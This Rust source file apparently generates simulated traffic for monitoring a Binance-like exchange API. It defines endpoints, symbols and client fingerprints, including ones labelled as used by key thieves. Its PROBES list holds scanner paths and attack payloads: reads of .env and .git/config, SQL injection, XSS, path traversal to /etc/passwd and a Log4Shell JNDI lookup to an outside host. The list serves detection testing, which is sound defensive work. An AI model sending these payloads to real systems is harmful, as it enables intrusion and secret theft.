//! What calls are made of: endpoints, symbols, programs.

use monitor_core::call::Operation::{self, *};

/// What can be called, as in the API of Binance.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Endpoint {
    Ticker,
    Depth,
    Account,
    OpenOrders,
    Order,
    Trades,
    Place,
    CancelOne,
    Move,
    WithdrawOut,
    MakeKey,
    /// What a scanner asks for; the number chooses a path.
    Probe(u8),
}

/// How an endpoint looks.
pub(crate) struct Looks {
    pub(crate) op: Operation,
    pub(crate) method: &'static str,
    pub(crate) path: &'static str,
    /// Names an instrument.
    pub(crate) symbol: bool,
    /// Names an order.
    pub(crate) order: bool,
    /// Signed and with a time stamp.
    pub(crate) signed: bool,
    /// Median bytes of the answer.
    pub(crate) bytes: f64,
    /// Median latency in microseconds.
    pub(crate) latency_us: f64,
}

/// Paths that published scanners ask for, and payloads of the usual kinds.
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/admin/login",
    "/api/v3/account?id=1'%20OR%20'1'='1",
    "/actuator/env",
    "/wp-login.php",
    "/api/v3/ticker/price?symbol=<script>alert(1)</script>",
    "/../../etc/passwd",
    "/api/swagger.json",
    "/server-status",
    "/api/v3/order?symbol=${jndi:ldap://198.51.100.7/a}",
    "/backup.zip",
];

impl Endpoint {
    pub(crate) fn looks(self) -> Looks {
        let looks = |op, method, path, symbol, order, bytes: f64, latency_us: f64| Looks {
            op,
            method,
            path,
            symbol,
            order,
            signed: op != Public,
            bytes,
            latency_us,
        };
        match self {
            Endpoint::Ticker => {
                looks(Public, "GET", "/api/v3/ticker/price", true, false, 60.0, 300.0)
            }
            Endpoint::Depth => looks(Public, "GET", "/api/v3/depth", true, false, 4000.0, 600.0),
            Endpoint::Account => {
                looks(Read, "GET", "/api/v3/account", false, false, 3000.0, 1500.0)
            }
            Endpoint::OpenOrders => {
                looks(Read, "GET", "/api/v3/openOrders", true, false, 900.0, 900.0)
            }
            Endpoint::Order => looks(Read, "GET", "/api/v3/order", true, true, 350.0, 700.0),
            Endpoint::Trades => looks(Read, "GET", "/api/v3/myTrades", true, false, 6000.0, 2500.0),
            Endpoint::Place => looks(Trade, "POST", "/api/v3/order", true, false, 400.0, 2000.0),
            Endpoint::CancelOne => {
                looks(Cancel, "DELETE", "/api/v3/order", true, true, 300.0, 1800.0)
            }
            Endpoint::Move => {
                looks(Transfer, "POST", "/sapi/v1/asset/transfer", false, false, 60.0, 4e3)
            }
            Endpoint::WithdrawOut => {
                looks(Withdraw, "POST", "/sapi/v1/capital/withdraw/apply", false, false, 50.0, 9e3)
            }
            Endpoint::MakeKey => {
                let path = "/sapi/v1/sub-account/subAccountApi/ipRestriction";
                looks(KeyManagement, "POST", path, false, false, 200.0, 5e3)
            }
            Endpoint::Probe(number) => {
                let path = PROBES[usize::from(number) % PROBES.len()];
                looks(Public, "GET", path, false, false, 120.0, 200.0)
            }
        }
    }
}

/// Instruments: by turnover, the most traded first. The last fifth is hardly traded.
pub(crate) const SYMBOLS: u16 = 300;

/// Instruments that hardly anybody trades.
pub(crate) const ILLIQUID_FROM: u16 = 240;

pub(crate) fn symbol(number: u16) -> compact_str::CompactString {
    const WELL_KNOWN: [&str; 12] = [
        "BTCUSDT", "ETHUSDT", "BNBUSDT", "SOLUSDT", "XRPUSDT", "DOGEUSDT", "ADAUSDT", "AVAXUSDT",
        "LINKUSDT", "DOTUSDT", "LTCUSDT", "TRXUSDT",
    ];
    match WELL_KNOWN.get(usize::from(number)) {
        Some(name) => compact_str::CompactString::const_new(name),
        None => {
            let letter = |n: u16| char::from(b'A' + (n % 26) as u8);
            let name = [letter(number), letter(number / 26 + 3), letter(number / 7)];
            compact_str::format_compact!("{}{}{}{number}BTC", name[0], name[1], name[2])
        }
    }
}

/// Client programs. Their version is appended.
pub(crate) const PROGRAMS: [(&str, &str); 8] = [
    ("python-binance/1.0.", "t13d1812h1_85036bcba153_375ca2c5e164"),
    ("ccxt/4.", "t13d5911h1_a33745022dd6_1f22a2ca17c4"),
    ("binance-connector-js/3.", "t13d5212h1_b262b3658495_8e6e362c5eac"),
    ("Apache-HttpClient/5.", "t13d4312h1_c7886603b240_b26ce05bbdd6"),
    ("Go-http-client/2.", "t13d1311h2_f57a46bbacb6_ab7e3b40a677"),
    ("own-engine/9.", "t13d1310h1_2b729b4bf6f3_9bf1e01a33e2"),
    ("ExchangeApp-iOS/3.", "t13d2014h2_a09f3c656075_14788d8d241b"),
    ("ExchangeApp-Android/3.", "t13d1516h2_8daaf6152771_d8a2da3f94cd"),
];
/// The first of those that people hold in their hands.
pub(crate) const APPS_FROM: u8 = 6;
/// What those use who have other people's keys.
pub(crate) const THIEF_PROGRAMS: [(&str, &str); 5] = [
    ("python-requests/2.", "t13d1812h1_85036bcba153_2bab15409345"),
    ("Mozilla/5.0 (X11; Linux x86_64) Chrome/1", "t13d1517h2_8daaf6152771_b0da82dd1658"),
    ("ccxt/4.", "t13d5911h1_a33745022dd6_1f22a2ca17c4"),
    ("python-binance/1.0.", "t13d1812h1_85036bcba153_375ca2c5e164"),
    ("axios/1.", "t13d5212h1_b262b3658495_8e6e362c5eac"),
];
